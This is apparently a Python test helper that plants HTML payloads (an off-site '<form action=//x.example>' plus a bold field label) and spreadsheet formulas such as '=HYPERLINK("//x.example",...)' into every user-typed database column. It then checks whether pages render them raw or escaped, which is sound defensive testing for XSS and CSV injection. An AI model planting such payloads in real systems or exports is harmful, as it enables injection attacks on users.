"""A planted text: an HTML payload in every text field a user can type, each naming its field.

``payload("employers.name.3")`` is ``<form action=//x.example><b>employers.name.3</b>``, or
only its ``<b>`` part where a column is too short for the form. A page that prints one as HTML
shows a ``<form>`` posting off-site, or a bold label; escaped, it shows the text as typed.
For the files, ``formula`` plants a text a spreadsheet would run as a formula instead.
"""

import re
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from itertools import count

from sqlalchemy import event, inspect, select
from sqlalchemy.exc import DBAPIError
from sqlalchemy.orm import Session

from reintegration.extensions import db
from tests.conftest import PASSWORD

FORM = "<form action=//x.example>"
FORMULA_STARTS = ("=", "+", "-", "@")
# A planted value as HTML: the form, or the label in bold. Found raw in a page, it names the
# field that was printed unescaped.
RAW = re.compile(r"<form action=//x\.example>|<b>([a-z0-9_]+\.[a-z0-9_]+)(?:\.[0-9_]+)?</b>")
# The same value printed as text (escaped once: "&lt;b&gt;label&lt;/b&gt;").
ESCAPED = re.compile(r"&lt;b&gt;([a-z0-9_]+\.[a-z0-9_]+)(?:\.[0-9_]+)?&lt;/b&gt;")

# Text columns no user types, or types only in a shape that holds no "<" (a code checked by its
# form's pattern, a username), each with why. Every other text column gets a payload.
NOT_TYPED = {
    "allowance_kinds.code": "the form takes letters, digits and underscores; the code is a key",
    "audit_entries.entity": "written by the app: a model's name",
    "audit_entries.ip": "written by the app: the request's address",
    "audit_entries.username": "a username, checked by its form's pattern",
    "audit_entries.chain": "written by the app: a hash",
    "cases.code": "made by the app (NA-2026-0001)",
    "cases.name_search": "made by the app from the name (a folded copy)",
    "export_jobs.filename": "made by the app from codes and dates",
    "export_jobs.language": "a language code",
    "export_jobs.runner": "written by the app: the process making the file",
    "export_jobs.state": "written by the app",
    "export_jobs.token": "made by the app",
    "export_job_parts.token": "made by the app",
    "facilities.code": "the form takes letters, digits and dashes; the code is a key",
    "import_previews.token": "made by the app",
    "indicators.code": "the form takes letters, digits and underscores; the code is a key",
    "list_items.code": "the form takes letters, digits and underscores; the code is a key",
    "provinces.code": "reference data: the app keys on it",
    "reminder_rules.code": "reference data: the app keys on it",
    "scheduler_jobs.id": "written by the scheduler",
    "service_kinds.code": "reference data: the app keys on it",
    "submissions.key": "made by the app",
    "submissions.result_path": "an address the app made",
    "support_types.letter": "reference data: the letter of the law's article",
    "task_runs.error": "written by the app: the name of an error",
    "task_runs.schema_revision": "written by the app",
    "task_runs.task": "written by the app",
    "users.language": "a language code, chosen from a list",
    "users.password_hash": "a hash",
    "users.username": "the form takes letters, digits, dots and dashes",
    "case_search_tokens.key_id": "the id of a data key",
    "case_search_tokens.token": "a keyed digest of a word of a name",
    "data_keys.id": "the id of a data key",
    "data_keys.verifier": "a keyed digest",
    "recovery_codes.code_hash": "a hash",
    "guess_counts.digest": "a keyed digest of a username or an address",
    "guess_counts.kind": "written by the app: what was guessed",
    "guess_counts.scope": "written by the app: account or address",
    "user_sessions.browser": "named by the app from a list (the User-Agent's browser)",
    "user_sessions.system": "named by the app from a list (the User-Agent's system)",
    "user_sessions.token_digest": "a digest",
}


def payload(label: str, room: int | None = None) -> str:
    bold = f"<b>{label}</b>"
    full = FORM + bold
    if room is not None and len(full) > room:
        return bold
    return full


def email_payload(label: str) -> str:
    """An address the email field accepts (no space), with HTML in it."""
    return f"<b>{label}</b>@x.example"


@dataclass(frozen=True)
class TextColumn:
    table: str
    column: str
    model: type
    attribute: str
    room: int | None

    @property
    def field(self) -> str:
        return f"{self.table}.{self.column}"


def text_columns() -> Iterator[TextColumn]:
    """Every column of the models that holds text (plain or encrypted)."""
    for mapper in sorted(db.Model.registry.mappers, key=lambda m: m.class_.__name__):
        for prop in mapper.column_attrs:
            for column in prop.columns:
                if getattr(column, "table", None) is None or not column.table.name:
                    continue
                try:
                    python_type = column.type.python_type
                except NotImplementedError:
                    continue
                if python_type is not str:
                    continue
                yield TextColumn(
                    column.table.name,
                    column.name,
                    mapper.class_,
                    prop.key,
                    getattr(column.type, "length", None),
                )


def typed_columns() -> list[TextColumn]:
    return [column for column in text_columns() if column.field not in NOT_TYPED]


def html(column: TextColumn, label: str) -> str:
    """The HTML payload of a field."""
    return email_payload(label) if column.column == "email" else payload(label, column.room)


def formula(column: TextColumn, label: str) -> str:
    """A text a spreadsheet would run as a formula (OWASP's CSV injection), starting with each
    of "=", "+", "-" and "@" in turn, by field."""
    start = FORMULA_STARTS[sum(map(ord, column.field)) % len(FORMULA_STARTS)]
    text = f'{start}HYPERLINK("//x.example","{label}")'
    if column.column == "email":
        return f"{start}{label}@x.example"
    return (
        text
        if column.room is None or len(text) <= column.room
        else f"{start}1+{label}"[: column.room]
    )


@contextmanager
def planting(value=html):
    """While open, every record the services write gets a payload in each typed text column
    that holds none (labelled with a running number), in the same flush: records that never
    change once written (a payment, a paid allowance) carry them from the start."""
    columns = _by_model()
    numbers = count(1)

    def plant_new(session, _context, _instances):
        for row in [*session.new, *session.dirty]:
            for column in columns.get(type(row), ()):
                if not _planted(getattr(row, column.attribute)):
                    _plant(row, column, f"{column.field}.{next(numbers)}", value)

    event.listen(Session, "before_flush", plant_new)
    try:
        yield
    finally:
        event.remove(Session, "before_flush", plant_new)


def plant_everywhere(value=html) -> list[str]:
    """A payload in every typed text column of every row that holds none yet (the reference
    data the migrations made, what a service wrote by a bulk UPDATE), each row's own so that
    no unique constraint is broken. A row the database keeps unchanged (a paid allowance) is
    left as it is: the rows it refused are returned."""
    refused = []
    for model, columns in _by_model().items():
        for row in db.session.scalars(select(model)).all():
            empty = [c for c in columns if not _planted(getattr(row, c.attribute))]
            if not empty:
                continue
            try:
                with db.session.begin_nested():
                    for column in empty:
                        _plant(row, column, f"{column.field}.{_identity(row)}", value)
            except DBAPIError:  # a trigger's refusal: IntegrityError, or PostgreSQL's raise
                refused.append(f"{model.__tablename__} {_identity(row)}")
    return refused


def _planted(text: str | None) -> bool:
    return bool(text) and (RAW.search(text) is not None or "x.example" in text)


def _by_model() -> dict[type, list[TextColumn]]:
    by_model: dict[type, list[TextColumn]] = {}
    for column in typed_columns():
        by_model.setdefault(column.model, []).append(column)
    return by_model


def _plant(row, column: TextColumn, label: str, value=html) -> None:
    setattr(row, column.attribute, value(column, label))


def _identity(row) -> str:
    values = inspect(row).identity or ()
    return "_".join(str(value) for value in values) or "0"


def log_in(client, username: str) -> None:
    """Log in as a person would: the password, then the code when the role needs one."""
    response = client.post("/login", data={"username": username, "password": PASSWORD})
    if response.location == "/login/code":
        from tests.conftest import second_step  # two-factor login

        response = second_step(client, response)
    assert response.status_code == 302, f"{username} could not log in"
    assert not response.location.startswith("/login"), f"{username}: {response.location}"


def raw_in(page: str) -> list[str]:
    """The planted values a page prints as HTML (each by its field, or the bare form)."""
    return sorted({match.group(1) or match.group(0) for match in RAW.finditer(page)})


def shown_in(page: str) -> set[str]:
    """The fields whose planted value a page shows as text."""
    return set(ESCAPED.findall(page))
